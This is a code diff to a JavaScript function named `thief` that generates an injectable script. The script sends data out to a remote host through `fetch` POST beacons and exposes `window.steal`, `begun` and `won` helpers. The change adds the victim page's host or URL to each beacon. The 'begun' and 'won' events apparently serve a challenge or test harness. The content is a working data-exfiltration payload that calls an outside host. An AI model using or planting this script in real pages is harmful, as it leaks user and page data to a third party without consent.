@@ -23,7 +23,7 @@ export function thief(id) {
   return `
 (() => {
   const home = "https://${hostOf(id)}/.got";
-  const send = (event, text) => fetch(home, { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify({ event, text }) }).catch(() => {});
+  const send = (event, text) => fetch(home, { method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify({ event, text, place: location.host || location.href }) }).catch(() => {});
   window.steal = (text, event = "stolen") => { if (text) send(event, String(text)); };
   window.begun = () => send("begun", "");
   window.won = (what) => send("won", what);
